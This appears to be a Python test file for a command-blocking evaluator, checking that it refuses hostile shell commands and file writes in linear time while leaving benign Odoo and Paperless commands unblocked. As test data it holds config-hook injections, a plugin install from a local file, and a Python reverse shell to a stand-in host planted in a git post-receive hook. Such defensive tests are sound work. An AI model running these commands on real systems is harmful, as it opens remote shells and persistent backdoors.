"""Round 35 (part t4f)'s own shapes stay linear on long runs (issue 25, High 1): a code key of any name written into a
server's configuration (``web_hooks._LOADS``' ``\\w+_(?:script|hook|command)``, its bounded scan over a long word), a
long add-ons path (``field_loaders``), a plugin installer's long operand list, an ERP server's long command line
(``field_secrets.remote_option``). Each shape is judged short and long (``linear_timing.small_and_large``); the long
one must cost under 30x the short one, with a floor for timer noise."""
from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.evaluation.verdicts.tier1.linear_timing import small_and_large

pytestmark = pytest.mark.serial


def _key(blanks: str) -> str:
    return f"echo 'PAPERLESS{'_X' * len(blanks)}_POST_CONSUME_SCRIPT=/tmp/p.sh' >> /opt/paperless/paperless.conf"


def _addons(blanks: str) -> str:
    return f"odoo --addons-path={'/opt/odoo/addons,' * len(blanks)}/tmp/a -u all"


def _installer(blanks: str) -> str:
    return f"elasticsearch-plugin install{blanks}{'analysis-icu ' * len(blanks)}file:///tmp/x.zip"


@pytest.mark.parametrize("shape", [_key, _addons, _installer])
def test_a_long_run_costs_time_in_proportion(evaluate: Any, shape: Callable[[str], str]) -> None:
    def run(blanks: str) -> None:
        assert evaluate(shape(blanks)).block, shape(blanks)[:120]

    small, large = small_and_large(run)
    assert large < max(30 * small, 0.5), (small, large)


def test_a_long_reverse_shell_costs_time_in_proportion(evaluate: Any) -> None:
    def run(blanks: str) -> None:
        content = f"import socket, subprocess\ns = socket.create_connection(('e.io', 4444))\n" \
                  f"subprocess.Popen(['sh',{blanks}'-i'], stdin=s, stdout=s)\n"
        args = {"path": "/srv/git/app.git/hooks/post-receive", "content": content}
        assert evaluate(args, tool="write_file").block

    small, large = small_and_large(run)
    assert large < max(30 * small, 0.5), (small, large)


def _setting(blanks: str) -> str:
    return f"echo 'PAPERLESS{'_X' * len(blanks)}_SCRIPTS_DIR_NAME=/opt/x' >> /opt/paperless/paperless.conf"


def _erp(blanks: str) -> str:
    return f"odoo -c /etc/odoo/odoo.conf{blanks}-u sale{blanks}--stop-after-init"


@pytest.mark.parametrize("shape", [_setting, _erp])
def test_a_long_benign_run_stays_open_and_linear(evaluate: Any, shape: Callable[[str], str]) -> None:
    def run(blanks: str) -> None:
        assert not evaluate(shape(blanks)).block, shape(blanks)[:120]

    small, large = small_and_large(run)
    assert large < max(30 * small, 0.5), (small, large)
